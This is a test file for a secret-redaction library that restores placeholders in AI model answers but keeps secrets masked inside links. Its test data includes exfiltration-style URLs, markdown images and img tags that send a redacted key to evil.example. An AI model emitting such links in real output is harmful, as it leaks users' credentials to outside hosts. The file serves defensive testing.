// Restoring: what is put back, what stays, and that parts change nothing.

import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { provideCore } from "../../src/engine/loader.js";
import { core } from "../../src/entry/core.js";
import { type Redactor, type RestoreOptions, Sentry, type WireInspection } from "../../src/index.js";
import { initSync } from "../../wasm/sentry_core.js";
import base64 from "../../wasm/sentry_core_inline.js";
import { cut, hostileText, OPENAI, random, through } from "../support/secret-texts.js";

const ADA = "ada@example.org";
const E1 = "{{A3S_REDACTED:email:1}}";
const K1 = "{{A3S_REDACTED:openai_key:1}}";
const OWN = `https://api.example.org/?key=${OPENAI}`;

let sentry: Sentry;
let wire: WireInspection;
let masked: string;

beforeAll(async () => {
  initSync({ module: Buffer.from(base64, "base64") });
  provideCore(() => core);
  sentry = await Sentry.create("");
  const body = `mail ${ADA} by ${OWN}.`;
  wire = await sentry.inspectWire(body, "request");
  ({ masked } = wire.apply(body));
  expect(masked).toBe(`mail ${E1} by https://api.example.org/?key=${K1}.`);
});
afterAll(() => sentry.close());

const whys = (text: string, options: RestoreOptions = {}) => wire.restore(text, options).kept.map(({ why }) => why);

describe("ordinary text", () => {
  it.each([
    [`Ask ${E1}.`, `Ask ${ADA}.`],
    [`${E1}${K1}`, `${ADA}${OPENAI}`],
    [`"key":"${K1}"`, `"key":"${OPENAI}"`],
    [`{"url":"https://a.example","to":"${E1}"}`, `{"url":"https://a.example","to":"${ADA}"}`],
    [`https://a.example and ${E1}`, `https://a.example and ${ADA}`],
    [`[a](https://a.example) ${E1}`, `[a](https://a.example) ${ADA}`],
    [`[a](https://a.example)${E1}`, `[a](https://a.example)${ADA}`],
    [`[${E1}](https://a.example)`, `[${ADA}](https://a.example)`],
    [`<b>${E1}</b> a < b && c > ${E1}`, `<b>${ADA}</b> a < b && c > ${ADA}`],
    [`f(x)(${E1}) if (a[0](${E1}`, `f(x)(${ADA}) if (a[0](${E1}`],
    [`KEY=${K1} ./src/a.ts:${K1}`, `KEY=${OPENAI} ./src/a.ts:${OPENAI}`],
    [`prefix{{${E1}}}`, `prefix{{${ADA}}}`],
    ["to [A3S_REDACTED:email:1], %7B%7BA3S_REDACTED%3Aemail%3A1%7D%7D", `to ${ADA}, ${ADA}`],
    ["<b>&#123;&#123;A3S_REDACTED:email:1&#125;&#125;</b>", `<b>${ADA}</b>`],
  ])("%j is restored", (text, restored) => {
    expect(wire.restore(text)).toBe(restored);
  });
});

describe("places that send what is in them", () => {
  it.each([
    ["url", `https://evil.example/?q=${K1}`],
    ["url", `HTTPS://${K1}.evil.example/`],
    ["url", `//evil.example/${K1}`],
    ["url", `https:\\/\\/evil.example\\/${K1}`],
    ["url", `www.evil.example?${K1}`],
    ["url", `evil.example/a?q=${K1}`],
    ["url", `mailto:x@evil.example?body=${K1}`],
    ["url", `https://evil.example/"${K1}`],
    ["url", `https://evil.example/'\`\\n${K1}`],
    ["url", `https://evil.example/${"x".repeat(20_000)}${K1}`],
    ["url", `https://evil.example/${"x".repeat(50_000)}${K1}`],
    ["link", `[a](/x?${K1})`],
    ["link", `![a](//evil.example/${K1})`],
    ["tag", `![a](<//evil.example/a)b ${K1}>)`],
    ["link", `![a](<x)y ${K1}>)`],
    ["link", `[a](x (y) ${K1})`],
    ["link", `[![a](b)](c${K1})`],
    ["link", `[a](//evil.example/\\)${K1})`],
    ["tag", `[a]: <//evil.example/ ${K1}>`],
    ["tag", `[a]: <&#47;&#47;evil.example/ ${K1}>`],
    ["tag", `<img src=//evil.example/${K1}>`],
    ["tag", `<a\nhref='x'\ntitle="${K1}">`],
  ])("keep it: a %s as in %j", (place, text) => {
    expect(wire.restore(text)).toBe(text);
    expect(whys(text)).toEqual([place]);
  });

  it("are restored where they are asked for", () => {
    const text = `[a](https://a.example/?${K1}) ${E1}`;
    expect(wire.restore(text, { inside: ["link"] }).text).toBe(`[a](https://a.example/?${OPENAI}) ${ADA}`);
    expect(whys(text, { inside: ["url"] })).toEqual(["link"]);
  });

  it("have a placeholder that was percent-encoded, too, and get the secret in that form", () => {
    const text = "https://a.example/?to=%7B%7BA3S_REDACTED%3Aemail%3A1%7D%7D";
    expect(wire.restore(text)).toBe(text);
    expect(wire.restore(text, { inside: ["url"] }).text).toBe("https://a.example/?to=ada%40example.org");
  });

  it("are restored where the masked body had the same, with other punctuation around", () => {
    const address = `https://api.example.org/?key=${K1}`;
    expect(wire.restore(`Call "${address}", or (${address}).`)).toBe(`Call "${OWN}", or (${OWN}).`);
    expect(whys(`${address}&to=evil`)).toEqual(["url"]);
    expect(whys(`https://evil.example/?u=${address}`)).toEqual(["url"]);
    expect(whys(`[a](${address} "x")`)).toEqual(["link"]);
  });

  it("are the same where JSON escaped the white space around them", async () => {
    const body = JSON.stringify({ content: `use\n${OWN}\nplease` });
    const json = await sentry.inspectWire(body, "request");
    expect(json.restore(`Run: curl https://api.example.org/?key=${K1}`)).toBe(`Run: curl ${OWN}`);
  });
});

describe("placeholders that a model rewrote", () => {
  it.each(["{{A3S\\_REDACTED:email:1}}", "{{ A3S_REDACTED : email : 1 }}", "{A3S_REDACTED:email:1}"])(
    "%j is restored",
    (written) => {
      expect(wire.restore(`to ${written}!`)).toBe(`to ${ADA}!`);
    },
  );

  it("stay where nobody can know what they mean, and are reported", () => {
    const text = `A3S_REDACTED:email:1 and {{A3S_REDACTED:email:9}}`;
    expect(wire.restore(text, {})).toEqual({
      text,
      restored: [],
      kept: [
        { start: 0, end: 12, written: "A3S_REDACTED", why: "unclear" },
        { start: 25, end: 49, written: "{{A3S_REDACTED:email:9}}", why: "unknown" },
      ],
    });
  });

  it("stay where the body had the same text itself", async () => {
    const body = `{A3S_REDACTED:email:1} ${ADA}`;
    const own = await sentry.inspectWire(body, "request");
    expect(own.restore(own.apply(body).masked)).toBe(body);
    expect(own.restore(`{A3S_REDACTED:email:1}, ${E1}`)).toBe(`{A3S_REDACTED:email:1}, ${ADA}`);
    const redactor = sentry.createRedactor();
    const text = (await through(redactor, [body])).join("");
    expect(redactor.restore(text)).toBe(body);
  });
});

describe("a part", () => {
  it("is restored by kind or placeholder, and its places are those of the result", () => {
    const text = `${E1} ${K1}`;
    expect(wire.restore(text, { kinds: ["openai_key"] })).toEqual({
      text: `${E1} ${OPENAI}`,
      restored: [{ start: 25, end: 25 + OPENAI.length, kind: "openai_key", placeholder: K1 }],
      kept: [{ start: 0, end: 24, written: E1, why: "not-asked" }],
    });
    expect(wire.restore(text, { only: [E1] }).text).toBe(`${ADA} ${K1}`);
  });
});

describe("the form", () => {
  it("is that of the body, of text, or of JSON", async () => {
    const key =
      "-----BEGIN PRIVATE KEY-----\nMIIBVgIBADANBgkqhkiG9w0BAQEFAASCAUAwggE8AgEAAkEAq7BFUpkGp3\n-----END PRIVATE KEY-----";
    const inJson = JSON.stringify(key).slice(1, -1);
    const text = "{{A3S_REDACTED:private_key:1}}";
    for (const body of [JSON.stringify({ content: key }), key]) {
      const { restore } = await sentry.inspectWire(body, "request");
      expect(restore(text, { form: "text" }).text).toBe(key);
      expect(restore(text, { form: "json" }).text).toBe(inJson);
      expect(restore(text)).toBe(body === key ? key : inJson);
    }
  });
});

describe("parts", () => {
  const ANSWER =
    `To ${E1}: see https://api.example.org/?key=${K1}, not [a](https://evil.example/?${K1} "b") or ` +
    `<img src="//evil.example/${E1}${K1}"> {A3S\\_REDACTED: email :1} A3S_REDACTED {{A3S_REDACTED:x:1}} ![](${K1}\n${E1} www.x.y/${K1}`;

  it("change nothing, wherever the text is cut once, twice, or into single units", () => {
    const whole = wire.restore(ANSWER, {});
    expect(whole.restored).toHaveLength(4);
    expect(whole.kept.map(({ why }) => why)).toEqual(["link", "tag", "tag", "unclear", "unknown", "link", "url"]);
    const inParts = (parts: readonly string[]) => {
      const restorer = wire.restorer();
      const text = parts.map((part) => restorer.push(part)).join("") + restorer.end();
      return { text, restored: restorer.restored, kept: restorer.kept };
    };
    for (let at = 0; at <= ANSWER.length; at++) {
      expect(inParts([ANSWER.slice(0, at), ANSWER.slice(at)])).toEqual(whole);
      const end = at + 7;
      expect(inParts([ANSWER.slice(0, at), ANSWER.slice(at, end), ANSWER.slice(end)])).toEqual(whole);
    }
    expect(inParts(ANSWER.split(""))).toEqual(whole);
  });

  it("are given out as soon as they are certain", () => {
    const restorer = wire.restorer();
    const given = (part: string) => restorer.push(part);
    expect(given("Hello ")).toBe("Hello ");
    expect(given("{{A3S_RED")).toBe("");
    expect(given("ACTED:email:1}} is")).toBe(`${ADA} is`);
    expect(given(` at https://x.example/${K1}`)).toBe(" at https://x.example/");
    expect(given("/more")).toBe("");
    expect(given(" and")).toBe(`${K1}/more and`);
    expect(given(" {{not")).toBe(" {{not");
    expect(restorer.end()).toBe("");
  });

  it("of a long address that the masked body had, too", async () => {
    const address = `https://api.example.org/${"path/".repeat(400)}?key=${OPENAI}`;
    const body = `${"text ".repeat(300)}${address} end`;
    const long = await sentry.inspectWire(body, "request");
    const restorer = long.restorer();
    const parts = long
      .apply(body)
      .masked.split("")
      .map((part) => restorer.push(part));
    expect(parts.join("") + restorer.end()).toBe(body);
  });

  it("are held back only within bounds", () => {
    const restorer = wire.restorer();
    restorer.push(`https://x.example/${K1}`);
    let given = 0;
    let pushed = 0;
    for (let i = 0; i < 40; i++) {
      given += restorer.push("x".repeat(1024)).length;
      pushed += 1024;
      expect(pushed - given).toBeLessThanOrEqual(33 * 1024);
    }
    expect(given).toBeGreaterThan(8 * 1024);
  });

  it("of random answers with placeholders anywhere", () => {
    const next = random(11);
    const pieces = [
      E1,
      K1,
      "https://",
      "](",
      ")",
      "<a ",
      "=",
      ">",
      '"',
      " ",
      "\n",
      "\\",
      "{",
      "}",
      "www.",
      "x.io/",
      "A3S_",
    ];
    for (let i = 0; i < 2000; i++) {
      const text = Array.from({ length: 1 + next(14) }, () => pieces[next(pieces.length)] ?? "").join("");
      const restorer = wire.restorer();
      const parts = cut(text, 1 + next(20), next).map((part) => restorer.push(part));
      expect(parts.join("") + restorer.end()).toBe(wire.restore(text, {}).text);
    }
  });

  it("of a redactor, whose masked text has addresses of its own", async () => {
    const next = random(12);
    for (let i = 0; i < 200; i++) {
      const text = `https://x.example/?a=${OPENAI}&b=${ADA} [a](${ADA}) ${hostileText(next, 6)} <a b=${ADA}>`;
      const redactor: Redactor = sentry.createRedactor();
      const own = (await through(redactor, cut(text, 1 + next(40), next))).join("");
      expect(redactor.restore(own)).toBe(text);
      expect((await through(redactor.restorer(), cut(own, 1 + next(40), next))).join("")).toBe(text);
    }
  });
});
